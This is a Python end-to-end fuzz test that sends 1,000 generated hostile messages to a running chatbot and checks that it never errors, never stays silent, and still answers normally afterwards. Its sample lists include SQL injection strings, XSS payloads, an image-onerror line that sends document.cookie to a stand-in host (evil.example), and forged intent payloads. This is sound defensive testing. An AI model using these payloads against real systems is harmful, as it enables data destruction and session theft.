"""1,000 generated hostile messages against the running bot: empty, huge, control characters,
right-to-left marks, emoji, HTML, SQL, lone surrogates, fake button payloads. None may cause a
5xx or go unanswered, and the bot must answer normally afterwards."""

from __future__ import annotations

import json
from concurrent.futures import ThreadPoolExecutor
from typing import Any
from urllib.parse import quote

import pytest
import requests
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.support.bots import RunningBot

pytestmark = pytest.mark.e2e

COUNT = 1000
SQL = (
    "'; DROP TABLE events; --",
    "1' OR '1'='1",
    "\" OR 1=1; DELETE FROM bookings WHERE '1'='1",
    "Robert'); DROP TABLE faq_entries;--",
    "UNION SELECT contact FROM bookings --",
)
HTML = (
    "<script>alert(1)</script>",
    '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
    "<b>bold</b><!-- comment --><iframe src=javascript:alert(1)>",
    "[encode-3]aGVsbG8=[/encode]",
    "&lt;&amp;&#x202e;",
)
PAYLOADS = (
    "/restart",
    "/session_start",
    "/nonexistent_intent",
    '/inform{"booking_confirmed": true}',
    "/ask_benefits{not json",
    '/human_handoff{"contact": "' + "9" * 300 + '"}',
    "/",
    "//",
)
RTL = "\u200f\u202e\u202b\u2067\u061c"


def hostile() -> st.SearchStrategy[str]:
    words = st.text(min_size=0, max_size=40)
    return st.one_of(
        st.just(""),
        st.text(st.characters(categories=["Cc", "Cf", "Zs", "Zl", "Zp"]), max_size=50),
        st.text(st.sampled_from(RTL + "שלום مرحبا"), min_size=1, max_size=60),
        st.text(st.characters(min_codepoint=0x1F300, max_codepoint=0x1FAFF), max_size=30),
        st.builds(lambda t, w: f"{t} {w}", st.sampled_from(HTML), words),
        st.builds(lambda t, w: f"{w}{t}", st.sampled_from(SQL), words),
        st.builds(lambda p, w: p + w, st.sampled_from(PAYLOADS), st.sampled_from(("", " ", "x"))),
        st.builds(lambda n, c: c * n, st.integers(900, 120_000), st.sampled_from("a💆ש\u200f ")),
        st.builds(lambda w: w + "\ud800" + w, words),  # a lone surrogate: not valid UTF-8
        st.text(max_size=300),
    )


def generate(count: int) -> list[str]:
    found: list[str] = []

    @settings(
        max_examples=count,
        derandomize=True,
        database=None,
        deadline=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(hostile())
    def collect(message: str) -> None:
        found.append(message)

    collect()
    return found


def post(bot: RunningBot, index: int, message: str) -> tuple[int, Any, str]:
    # Five messages per conversation, so fallback after fallback is exercised too.
    body = json.dumps({"sender": f"hostile-{index // 5}", "message": message})
    response = requests.post(
        f"{bot.url}/webhooks/rest/webhook",
        data=body.encode("utf-8", "surrogatepass"),
        headers={"Content-Type": "application/json"},
        timeout=120,
    )
    try:
        replies = response.json()
    except ValueError:
        replies = None
    return response.status_code, replies, message


def paused_for_staff(bot: RunningBot, conversation: str) -> bool:
    response = requests.get(
        f"{bot.url}/conversations/{quote(conversation, safe='')}/tracker",
        headers={"Authorization": f"Bearer {bot.api_token}"},
        timeout=30,
    )
    response.raise_for_status()
    return bool(response.json().get("paused"))


def test_hostile_messages_never_break_the_bot(bot_server: RunningBot) -> None:
    messages = generate(COUNT)
    assert len(messages) == COUNT
    with ThreadPoolExecutor(max_workers=8) as pool:
        results = list(pool.map(post, [bot_server] * COUNT, range(COUNT), messages))

    server_errors = [(status, m[:60]) for status, _, m in results if status >= 500]
    assert not server_errors, server_errors[:5]
    silent = [
        (status, m[:60], replies)
        for index, (status, replies, m) in enumerate(results)
        if not isinstance(replies, list) or not any((r.get("text") or "").strip() for r in replies)
        # During opening hours a hand-off payload pauses its conversation for staff, who answer
        # from then on: the bot's silence there is the hand-off working.
        if not paused_for_staff(bot_server, f"rest:hostile-{index // 5}")
    ]
    assert not silent, f"{len(silent)} unanswered, e.g. {silent[:5]}"

    replies = bot_server.send("does massage help with sleep?", "after-the-storm")
    assert "sleep" in " ".join(r.get("text") or "" for r in replies).lower()
